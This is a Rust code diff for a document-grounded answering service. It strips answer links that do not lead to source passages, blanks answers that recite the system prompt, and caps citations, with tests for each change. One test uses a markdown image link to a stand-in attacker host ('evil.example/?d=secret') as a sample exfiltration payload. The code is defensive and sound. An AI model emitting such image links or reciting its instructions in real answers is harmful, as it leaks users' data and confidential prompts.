@@ -2,10 +2,15 @@
 
 use shared::domain::{Answer, Citation, Grounding, Passage, Usage};
 
+use super::answer_links;
 use super::draft::{Draft, Quote};
+use super::prompt;
 
 /// What is answered when the documents hold no answer.
 pub const NOTHING_FOUND: &str = "The documents hold no answer to this question.";
+
+/// The most citations of one answer. A model that keeps to the passages has no use for as many.
+const MAX_CITATIONS: usize = 100;
 
 /// An answer of which every citation was found in its passage.
 #[derive(Debug, Clone, PartialEq)]
@@ -18,18 +23,28 @@ pub struct Verified {
     pub dropped: usize,
 }
 
-/// Keeps the quotes that stand word for word in the passage they name, and drops the others.
+/// Keeps the quotes that stand word for word in the passage they name, and drops the others. Takes out of the text what
+/// leads elsewhere than to the passages' sources. Every answer, whoever wrote it, goes through here before anybody sees
+/// or keeps it; one that recites the instructions to the model, or of which nothing is left, says that there is none.
 ///
 /// `passages` are those that were handed to the answerer, in the same order. A quote that is given twice is cited once.
 #[must_use]
 pub fn verify(draft: Draft, passages: &[Passage]) -> Verified {
+    let text = answer_links::clean(&draft.text, passages);
+    if text.trim().is_empty() || prompt::is_recited(&text) {
+        return Verified {
+            answer: nothing_found(&draft.model),
+            usage: draft.usage,
+            dropped: draft.quotes.len(),
+        };
+    }
     let mut citations: Vec<Citation> = Vec::new();
     let mut dropped = 0;
     for quote in &draft.quotes {
         match find(quote, passages) {
-            Some(citation) if is_new(&citation, &citations) => citations.push(citation),
-            Some(_) => {}
-            None => dropped += 1,
+            Some(citation) if !is_new(&citation, &citations) => {}
+            Some(citation) if citations.len() < MAX_CITATIONS => citations.push(citation),
+            Some(_) | None => dropped += 1,
         }
     }
     let grounded = match (citations.is_empty(), dropped) {
@@ -38,7 +53,7 @@ pub fn verify(draft: Draft, passages: &[Passage]) -> Verified {
         (false, _) => Grounding::Partial,
     };
     let answer = Answer {
-        text: draft.text,
+        text,
         citations,
         grounded,
         model: draft.model,
@@ -178,6 +193,40 @@ mod tests {
         let verified = verify(draft(&[(0, "Two."), (1, "Two."), (0, "Two. ")]), &[first, second]);
         assert_eq!((verified.answer.citations.len(), verified.dropped), (1, 0));
         assert_eq!(verified.answer.grounded, Grounding::Full);
+    }
+
+    #[test]
+    fn the_text_leads_only_to_the_sources() {
+        let passages = [passage("The lease lasts 30 seconds.", 0)];
+        let wrote = |text: &str| {
+            let quoting = draft(&[(0, "The lease lasts 30 seconds.")]);
+            let text = text.to_owned();
+            verify(Draft { text, ..quoting }, &passages).answer
+        };
+        let answer = wrote("[Here](https://example.com/a), not [there](https://evil.example/).");
+        assert_eq!(answer.text, "[Here](https://example.com/a), not there.");
+        assert_eq!(answer.grounded, Grounding::Full);
+        for nothing in ["![](https://evil.example/?d=secret)", prompt::SYSTEM] {
+            let answer = wrote(nothing);
+            assert_eq!(
+                (answer.text.as_str(), answer.grounded),
+                (NOTHING_FOUND, Grounding::None)
+            );
+            assert!(answer.citations.is_empty() && !answer.is_cacheable());
+        }
+    }
+
+    #[test]
+    fn no_answer_has_more_citations_than_it_could_need() {
+        let text = "0123456789".repeat(20);
+        let passages = [passage(&text, 0)];
+        let parts: Vec<(usize, &str)> = (1..=200).map(|end| (0, &text[..end])).collect();
+        let verified = verify(draft(&parts), &passages);
+        assert_eq!(
+            (verified.answer.citations.len(), verified.dropped),
+            (MAX_CITATIONS, 100)
+        );
+        assert_eq!(verified.answer.grounded, Grounding::Partial);
     }
 
     #[test]
